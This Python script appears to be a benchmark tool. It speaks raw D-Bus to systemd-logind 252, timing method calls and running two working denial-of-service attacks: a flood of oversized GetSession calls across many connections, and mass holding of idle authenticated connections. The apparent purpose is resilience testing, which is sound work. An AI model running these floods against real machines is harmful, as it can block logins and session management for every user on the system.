#!/usr/bin/env python3
"""What bench/logind_attacks.sh does to systemd-logind 252 over the system bus, the
counterpart of crates/login/src/bin/login-attack.rs: a minimal D-Bus client (SASL EXTERNAL,
Hello, one method call; no library, so the same code runs as any user) and the attacks that
apply to logind: big messages on many connections, many idle connections.

  dbus_attack.py probe BUS METHOD [ARG]     calls on fresh connections until stdin closes;
                                            one line per call: "MICROSECONDS ok|err NAME",
                                            and "MICROSECONDS pending" for one unanswered
  dbus_attack.py flood BUS CONNS BYTES      CONNS connections calling logind with a BYTES-long
                                            string argument, again and again
  dbus_attack.py hold BUS CONNS             CONNS authenticated connections, held
Every lasting command prints "ready" once its attack is in place and stops when stdin closes.
"""
import os
import socket
import struct
import sys
import threading
import time

DEST = "org.freedesktop.login1"
PATH = "/org/freedesktop/login1"
IFACE = "org.freedesktop.login1.Manager"


def pad(buf, n):
    return buf + b"\0" * ((-len(buf)) % n)


def string(buf, s, code="s"):
    b = s.encode()
    if code == "g":
        return buf + bytes([len(b)]) + b + b"\0"
    buf = pad(buf, 4)
    return buf + struct.pack("<I", len(b)) + b + b"\0"


def message(serial, dest, path, iface, member, sig="", body=b""):
    fields = b""
    for code, typ, val in [(1, "o", path), (2, "s", iface), (3, "s", member), (6, "s", dest)] + (
        [(8, "g", sig)] if sig else []
    ):
        fields = pad(fields, 8)
        fields += bytes([code])
        fields = string(fields, typ, "g")
        fields = string(fields, val, typ)
    head = b"l\x01\x00\x01" + struct.pack("<III", len(body), serial, len(fields))
    return pad(head + fields, 8) + body


class Conn:
    def __init__(self, bus, timeout=30):
        self.s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.s.settimeout(timeout)
        self.s.connect(bus)
        uid = str(os.getuid()).encode().hex()
        self.s.sendall(b"\0AUTH EXTERNAL " + uid.encode() + b"\r\n")
        line = b""
        while not line.endswith(b"\r\n"):
            chunk = self.s.recv(256)
            if not chunk:
                raise OSError("bus closed during auth")
            line += chunk
        if not line.startswith(b"OK"):
            raise OSError("auth refused: %r" % line)
        self.s.sendall(b"BEGIN\r\n")
        self.buf = b""
        self.serial = 0
        self.call("org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus", "Hello")

    def read(self, n):
        while len(self.buf) < n:
            chunk = self.s.recv(65536)
            if not chunk:
                raise OSError("bus closed")
            self.buf += chunk
        out, self.buf = self.buf[:n], self.buf[n:]
        return out

    def call(self, dest, path, iface, member, sig="", body=b""):
        self.serial += 1
        self.s.sendall(message(self.serial, dest, path, iface, member, sig, body))
        while True:
            fixed = self.read(16)
            typ = fixed[1]
            blen, _, flen = struct.unpack("<III", fixed[4:16])
            fields = self.read(flen + ((-(16 + flen)) % 8))
            body = self.read(blen)
            reply_serial, error = None, None
            i = 0
            while i < flen:
                i += (-i) % 8
                code, slen = fields[i], fields[i + 1]
                sig = fields[i + 2 : i + 2 + slen].decode()
                i += 3 + slen
                if sig == "u":
                    i += (-i) % 4
                    val = struct.unpack("<I", fields[i : i + 4])[0]
                    i += 4
                elif sig in ("s", "o"):
                    i += (-i) % 4
                    n = struct.unpack("<I", fields[i : i + 4])[0]
                    val = fields[i + 4 : i + 4 + n].decode(errors="replace")
                    i += 5 + n
                elif sig == "g":
                    n = fields[i]
                    val = fields[i + 1 : i + 1 + n].decode()
                    i += 2 + n
                else:
                    break
                if code == 5:
                    reply_serial = val
                elif code == 4:
                    error = val
            if typ in (2, 3) and reply_serial == self.serial:
                return error


IN_FLIGHT = [None]  # when the probe's current call started


def stop_on_stdin_eof():
    def wait():
        sys.stdin.read()
        started = IN_FLIGHT[0]
        if started is not None:
            # A call still unanswered when the window ends counts with what it waited so far.
            say("%d pending" % ((time.monotonic() - started) * 1e6))
        os._exit(0)

    threading.Thread(target=wait, daemon=True).start()


def say(line):
    sys.stdout.write(line + "\n")
    sys.stdout.flush()


def probe(bus, member, arg=None):
    sig, body = ("", b"") if arg is None else ("s", string(b"", arg))
    stop_on_stdin_eof()
    while True:
        t = time.monotonic()
        IN_FLIGHT[0] = t
        try:
            err = Conn(bus).call(DEST, PATH, IFACE, member, sig, body)
            res = "ok" if err is None else "err " + err
        except OSError as e:
            res = "err transport: %s" % e
        IN_FLIGHT[0] = None
        say("%d %s" % ((time.monotonic() - t) * 1e6, res))
        time.sleep(0.02)


def flood(bus, conns, size):
    body = string(b"", "x" * size)

    def one():
        while True:
            try:
                c = Conn(bus)
                while True:
                    c.call(DEST, PATH, IFACE, "GetSession", "s", body)
            except OSError:
                time.sleep(0.05)

    for _ in range(conns):
        threading.Thread(target=one, daemon=True).start()
    say("ready")
    stop_on_stdin_eof()
    threading.Event().wait()


def hold(bus, conns):
    held = []
    for _ in range(conns):
        try:
            held.append(Conn(bus, timeout=2))
        except OSError:
            break  # the bus's limit for this user
    say("ready %d" % len(held))
    stop_on_stdin_eof()
    threading.Event().wait()


def main():
    a = sys.argv[1:]
    if a[:1] == ["probe"] and len(a) in (3, 4):
        probe(a[1], a[2], a[3] if len(a) == 4 else None)
    elif a[:1] == ["flood"] and len(a) == 4:
        flood(a[1], int(a[2]), int(a[3]))
    elif a[:1] == ["hold"] and len(a) == 3:
        hold(a[1], int(a[2]))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
